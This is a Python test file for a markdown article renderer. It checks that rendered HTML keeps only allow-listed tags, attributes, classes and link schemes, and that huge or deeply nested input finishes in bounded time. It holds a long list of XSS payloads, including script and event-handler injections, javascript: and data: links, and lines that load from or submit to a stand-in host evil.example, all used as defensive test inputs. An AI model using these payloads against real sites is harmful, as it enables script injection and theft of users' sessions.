"""Whatever stands in the text, the page holds only what an article may hold, in bounded time."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from articles import markdown
from articles.markdown import Known, Target
from articles.models.articles import BODY_MAX_LENGTH

# Stated here anew, not read from the code: a list that grows by accident fails.
ALLOWED = {
    "a": {"href", "id", "rel", "aria-label"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "sup": {"class"},
    "p": {"class"},
    "ol": {"class", "start"},
    "ul": set(),
    "li": {"id"},
    "th": {"class", "scope"},
    "td": {"class"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
    **{
        tag: set()
        for tag in (
            *("blockquote", "br", "code", "dd", "dl", "dt", "em", "hr", "pre", "strong"),
            *("table", "tbody", "thead", "tr"),
        )
    },
}
CLASSES = {
    *("cite", "footnotes", "number", "table-scroll", "notice", "notice__title"),
    *("regulators", "callout__title"),
    *("notice--stop", "notice--caution", "notice--info"),
}
SCHEMES = {"", "http", "https", "mailto", "article", "food", "regimen", "source"}

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example/';</style>",
    "<p style=position:fixed>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<form action=https://evil.example><input name=x></form>",
    "<object data=x></object><embed src=x><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div id=main data-hx-get=/admin/ hx-get=/admin/>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x1;javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    '[x](https://e.example/"onmouseover="alert(1))',
    "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://e.example/\"onmouseover=alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "![x](x 'y\" onerror=\"alert(1)')",
    "```\" onmouseover=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "## x\" onmouseover=\"alert(1)",
    "| <script>alert(1)</script> |\n|:--|\n| <img src=x onerror=alert(1)> |",
    "[^<script>]: x\n\n[^<script>]",
    "::callout{kind=\"stop\" title=\"<script>x</script>\"}\n<img src=x onerror=alert(1)>\n::end",
    "::callout{kind=\"stop\\\" onclick=\\\"alert(1)\"}\nx\n::end",
    "::regimen{slug=\"\\\"><script>alert(1)</script>\"}",
    "[@<script>alert(1)</script>]",
    "[x](article:trials\"onclick=alert(1))",
    "::figure{image='villi' alt='a' caption='<img src=x onerror=alert(1)>'}",
    "::figure{image='villi' alt='a' caption='</figcaption><script>alert(1)</script>'}",
    "::figure{image='villi' alt='a' caption='[x](javascript:alert(1)) ![x](x)'}",
    "[<img src=x onerror=alert(1)>](food:tomato)",
    "<a\u2028href='javascript:alert(1)'>x</a>",
    "\u202e<script>\u202c",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
]  # fmt: skip


def is_allowed_address(address: str) -> bool:
    """Say whether a link may lead there."""
    return urlsplit(address).scheme in SCHEMES and not address.startswith("//")


class Checker(HTMLParser):
    """Collects everything in a piece of HTML that an article may not hold."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.faults.append(f"<{tag}>")
            return
        for name, value in attributes:
            if name not in ALLOWED[tag]:
                self.faults.append(f"<{tag} {name}>")
            elif name == "class" and not set((value or "").split()) <= CLASSES:
                self.faults.append(f"class {value}")
            elif name == "href" and not is_allowed_address(value or ""):
                self.faults.append(f"href {value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append("a comment")

    def handle_decl(self, declaration: str) -> None:
        self.faults.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.faults.append("an instruction")


def faults(body: str) -> list[str]:
    document = markdown.read(body)
    known = {target: Known(1, '<b>"name"') for target in document.targets}
    known[Target("food", "tomato")] = Known(2, "Tomato")
    checker = Checker()
    for block in document.render(known).blocks:
        checker.feed(block.get("html", ""))
        # Anything else in a block comes from our own lists, ids and numbers, or is escaped where
        # it is shown: what is said of an image (test_article_page.py).
        assert block.keys() <= {
            *("kind", "html", "slug", "regimen", "substance", "group", "top", "limit", "per"),
            *("image", "alt", "decorative", "credit"),
        }
    checker.close()
    return checker.faults


def test_the_checker_sees_what_it_must() -> None:
    checker = Checker()
    checker.feed(
        '<p onclick="x"><script></script><a href="javascript:x" >x</a><p class="evil"><!-- -->'
    )

    assert checker.faults == [
        "<p onclick>", "<script>", "href javascript:x", "class evil", "a comment",
    ]  # fmt: skip


@pytest.mark.parametrize("body", XSS, ids=range(len(XSS)))
@pytest.mark.parametrize("around", ["{}", "- {}", "> {}", "a\n\n{}\n\nb", "**{}**", "[{}](food:x)"])
def test_hostile_text_becomes_nothing_but_text(body: str, around: str) -> None:
    assert faults(around.format(body)) == []


PIECES = st.sampled_from(
    [
        *XSS,
        *("[", "]", "(", ")", "<", ">", '"', "'", "`", "*", "_", "|", "\n", "\n\n", "- ", "> "),
        *("::figure{image=\"x\" alt=\"", "caption=\"", "\"}\n"),
        *("::callout{kind=\"stop\"}\n", "\n::end\n", "::levels\n", "[@a; @b]", "[^1]", "[^1]: "),
        *("[x](food:tomato)", "## ", "&#", "\\", "~", "\t", "    ", "1. ", "a", "é", "\u0000"),
    ]
)  # fmt: skip


@given(st.lists(PIECES, max_size=25))
def test_any_mixture_becomes_nothing_but_text(pieces: list[str]) -> None:
    assert faults("".join(pieces)) == []


LONG = {
    "brackets": "[",
    "picture brackets": "![",
    "stars": "*a_ ",
    "quotes": "> ",
    "list items": "- ",
    "ticks": "``a ",
    "notes": "[^a]",
    "cells": "a|",
    "rows": "a|b\n-|-\n",
    "half links": "[a](",
    "angles": "<",
    "ampersands": "&",
    "citations": "[@a; ",
    "closed citations": "[@a]",
    "callouts": '::callout{kind="stop"}\n',
    "ends": "::end\n",
    "directives": "::levels\n",
    "attributes": '::foods{a="',
    "headings": "## a\n",
    "words": "word ",
    "definitions": "a\n: b\n\n",
    "one line": "a",
}


@pytest.mark.parametrize("piece", LONG.values(), ids=LONG.keys())
def test_the_longest_text_there_may_be_renders_or_is_refused(piece: str) -> None:
    body = (piece * BODY_MAX_LENGTH)[:BODY_MAX_LENGTH]

    # pytest's own run would hang on quadratic time: a hundred times this bound is hours.
    assert faults(body) == []


@pytest.mark.parametrize(
    "line",
    [
        "::figure{}x",
        "::figure{{{}}}",
        '::figure{{a="{}"}}',
        '::figure{{image="x" alt="x" caption="{}"}}',
        "::{}!",
    ],
)
@pytest.mark.parametrize("piece", [" ", "a", "a="])
def test_a_directive_of_any_length_ends(line: str, piece: str) -> None:
    assert faults(line.format(piece * ((BODY_MAX_LENGTH - 100) // len(piece)))) == []


def test_deep_nesting_ends() -> None:
    assert faults("> " * 5_000 + "deep") == []
    assert faults("".join("  " * depth + "- a\n" for depth in range(300))) == []
